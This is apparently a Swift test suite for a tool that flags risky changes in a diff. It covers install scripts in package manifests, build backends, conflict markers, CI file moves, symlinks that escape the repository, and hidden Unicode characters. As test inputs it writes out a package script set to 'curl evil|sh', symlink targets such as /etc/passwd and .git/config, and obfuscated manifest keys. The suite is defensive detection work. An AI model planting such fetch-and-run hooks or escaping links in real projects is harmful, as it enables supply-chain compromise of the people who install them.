import Model
import Testing

@Suite("Sensitive files")
struct SensitiveChangeTests {
  private static func kinds(
    _ path: String, _ old: String? = nil, _ new: String? = "x\n", mode: String = "100644", status: DiffFile.Status? = nil,
    from: String? = nil
  ) -> [SensitiveReason] {
    var change = SensitiveChange(
      path: path, oldPath: from, status: status ?? (old == nil ? .added : new == nil ? .deleted : .modified),
      oldMode: old == nil ? "000000" : "100644", newMode: new == nil ? "000000" : mode)
    change.oldContent = old.map { Array($0.utf8) }
    change.newContent = new.map { Array($0.utf8) }
    return change.reasons()
  }

  @Test("A manifest needs a tick only when what it runs changes")
  func npm() {
    let old = #"{"name":"a","version":"1","scripts":{"test":"x"},"dependencies":{"a":"1"}}"#
    #expect(
      Self.kinds("package.json", old, #"{ "version": "2", "name":"b", "scripts": { "test" : "x" }, "dependencies":{"a":"1"} }"#).isEmpty)
    let dependency = Self.kinds("package.json", old, old.replacing("\"1\"}", with: "\"2\"}"))
    #expect(dependency.map(\.kind) == [.dependencies] && !dependency[0].needsTick)
    let script = Self.kinds("a/package.json", old, old.replacing("\"x\"", with: "\"curl evil|sh\""))
    #expect(script.map(\.kind) == [.packageScript] && script[0].needsTick)
    #expect(script[0].text.contains("scripts"))
    for trick in [
      #"{"name":"a","version":"1","scripts":{"test":"x"},"dependencies":{"a":"1"},"scr\u0069pts":{"install":"evil"}}"#,
      #"{"name":"a","version":"1","scripts":{"test":"x"},"dependencies":{"a":"1"},"scripts":{"test":"evil"}}"#,
      "\u{FEFF}" + old.replacing("\"x\"", with: "\"y\""), old + "x", "{", "[]", "", #"{"a":}"#, #"{"a":1,}"#,
    ] {
      #expect(Self.kinds("package.json", old, trick).contains { $0.kind == .packageScript && $0.needsTick }, "\(trick)")
    }
    #expect(Self.kinds("package.json", nil, old).contains { $0.needsTick }, "a new one with scripts")
    #expect(Self.kinds("package.json", nil, #"{"name":"a"}"#).isEmpty, "a new one without")
    #expect(Self.kinds("package.json", old, nil).contains { $0.needsTick }, "removed with its scripts")
    #expect(Self.kinds("package.json", old, String(repeating: "[", count: 100_000)).contains { $0.needsTick })
  }

  @Test("Conflict markers that were left in a file, unless they were there before")
  func conflicts() {
    let half = "a\n<<<<<<< HEAD\none\n=======\ntwo\n>>>>>>> their\nb\n"
    let found = Self.kinds("a.txt", "a\nb\n", half)
    #expect(found.map(\.kind) == [.conflict] && found[0].needsTick && found[0].text.hasSuffix("first on line 2"))
    #expect(Self.kinds("a.txt", nil, half.replacing("\n", with: "\r\n")).map(\.kind) == [.conflict])
    #expect(Self.kinds("a.txt", nil, "<<<<<<< a\n||||||| base\nx\n=======\n>>>>>>>").map(\.kind) == [.conflict])
    #expect(Self.kinds("git.md", half, half + "more\n").isEmpty, "it is about conflicts")
    for honest in [
      "Heading\n=======\n", "<<<<<<< a\n", ">>>>>>> quoted\n", "=======\n>>>>>>> x\n", " <<<<<<< a\n=======\n>>>>>>> b\n",
      "<<<<<<<<< a\n=======\n>>>>>>> b\n",
    ] {
      #expect(Self.kinds("a.txt", nil, honest).isEmpty, "\(honest)")
    }
  }

  @Test("The build backend of a Python package, and the build script of a crate")
  func toml() {
    let old = "[project]\nname = \"a\"\nversion = \"1\"\ndependencies = [\n  \"x\",\n]\n\n[build-system]\nrequires = [\"setuptools\"]\n"
    #expect(Self.kinds("pyproject.toml", old, old.replacing("\"1\"", with: "\"2\"")).allSatisfy { !$0.needsTick })
    #expect(Self.kinds("pyproject.toml", old, old.replacing("\"x\"", with: "\"y\"")).allSatisfy { !$0.needsTick })
    for (part, other) in [
      ("\"setuptools\"", "\"evil\""), ("version = \"1\"", "version = \"1\"\nscripts.a = \"evil:x\""),
      ("[build-system]", "[tool.pytest.ini_options]\naddopts = \"-p evil\"\n\n[build-system]"),
      ("[project]", "build-system.x = 1\n[project]"),
    ] {
      #expect(Self.kinds("pyproject.toml", old, old.replacing(part, with: other)).contains { $0.needsTick }, "\(other)")
    }
    let crate = "[package]\nname = \"a\"\nversion = \"1\"\n"
    #expect(Self.kinds("Cargo.toml", crate, crate.replacing("\"1\"", with: "\"2\"")).allSatisfy { !$0.needsTick })
    #expect(Self.kinds("Cargo.toml", crate, crate + "build = \"evil.rs\"\n").contains { $0.needsTick })
  }

  @Test("Renames, removals and modes")
  func moves() {
    #expect(
      Self.kinds("a.yml", "x", "x", status: .renamed, from: ".github/workflows/a.yml").contains {
        $0.needsTick && $0.text.hasPrefix("Moved")
      })
    #expect(Self.kinds(".gitlab-ci.yml", "x", nil).first?.text.hasPrefix("Removed") == true)
    #expect(Self.kinds(".env", "x", nil).isEmpty, "a removed secret is no danger")
    #expect(Self.kinds(".env.example").isEmpty)
    #expect(Self.kinds("a.sh", "x", "x", mode: "100755").map(\.kind) == [.executable])
    #expect(Self.kinds("Makefile").map(\.needsTick) == [false])
    #expect(Self.kinds(".gitignore").map(\.kind) == [.ignoreRules])
    #expect(Self.kinds(".gitignore").allSatisfy { !$0.needsTick })
    #expect(Self.kinds("a\nb").map(\.kind) == [.hidden])
    #expect(Self.kinds("a\u{1B}[2Jb").map(\.kind) == [.hidden])
  }

  @Test("Links out of the tree")
  func links() {
    for (target, path) in [
      ("/etc/passwd", "a"), ("../x", "a"), ("../../x", "d/a"), ("b/../../x", "a"), ("", "a"), (".git/config", "a"), ("../.GIT/x", "d/a"),
    ] {
      #expect(LinkTarget.leavesTree(target, from: path), "\(path) → \(target)")
    }
    for (target, path) in [("x", "a"), ("../x", "d/a"), ("./b/../c", "a"), ("..x", "a")] {
      #expect(!LinkTarget.leavesTree(target, from: path), "\(path) → \(target)")
    }
  }

  @Test("Only what is on new lines counts")
  func newLines() {
    let old = "a\u{202E}b\nc\n"
    #expect(Self.kinds("a.txt", old, "c\na\u{202E}b\n").isEmpty)
    #expect(Self.kinds("a.txt", old, "a\u{202E}b\nc\u{200B}\n").map(\.kind) == [.hidden])
    #expect(Self.kinds("a.txt", old, "ab\nc\n").isEmpty, "taking it out")
  }

  @Test("Another version's classes are kept as other")
  func unknownClasses() {
    #expect(SensitiveReason.Kind(rawValue: "quantum") == nil)
    #expect(Set(SensitiveReason.Kind.allCases.map(\.rawValue)).count == SensitiveReason.Kind.allCases.count)
  }

  @Test("A stamp is another one for another content, mode, status or old path")
  func stamps() {
    let file = DiffFile(path: "a", status: .modified, insertions: 1, deletions: 0, blob: "b1", mode: "100644")
    var stamps: Set = [file.stamp]
    for change: (inout DiffFile) -> Void in [
      { $0.blob = "b2" }, { $0.mode = "100755" }, { $0.status = .added }, { $0.oldPath = "c" },
      {
        $0.status = .deleted
        $0.blob = ""
        $0.mode = nil
      },
    ] {
      var other = file
      change(&other)
      #expect(stamps.insert(other.stamp).inserted)
    }
  }
}
